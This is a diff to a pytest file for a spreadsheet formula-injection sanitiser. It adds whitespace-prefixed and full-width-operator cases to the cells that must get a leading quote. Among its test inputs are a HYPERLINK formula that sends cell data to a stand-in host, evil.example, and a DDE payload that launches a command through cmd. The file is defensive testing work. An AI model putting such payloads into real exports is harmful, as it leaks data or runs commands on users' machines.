@@ -13,12 +13,16 @@ from adapters.web.console.queries import LedgerRow
 
 
 @pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("https://evil.example/?d="&A1,"x")', "+SUM(A1)", "-2+3",
-                                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "-", "="])
+                                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "-", "=",
+                                  # what an importer that trims white space would leave starting the cell
+                                  " =1", "\n=1", "\u3000=1", "  +1",
+                                  # full-width operators, read as formulas by spreadsheets set up for CJK input
+                                  "\uff1d1+1", "\uff0bSUM(A1)", "\uff0d1", "\uff20SUM(1)"])
 def test_a_cell_starting_a_formula_gets_a_single_quote(text: str) -> None:
     assert formula_safe(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["", "general", "Ada Lovelace", "a=b", " =1", "'=1", "#dev", "1-2", "\n=1"])
+@pytest.mark.parametrize("text", ["", "general", "Ada Lovelace", "a=b", " a=1", "'=1", "#dev", "1-2", "a\n=1", "   "])
 def test_other_text_is_unchanged(text: str) -> None:
     assert formula_safe(text) == text
 
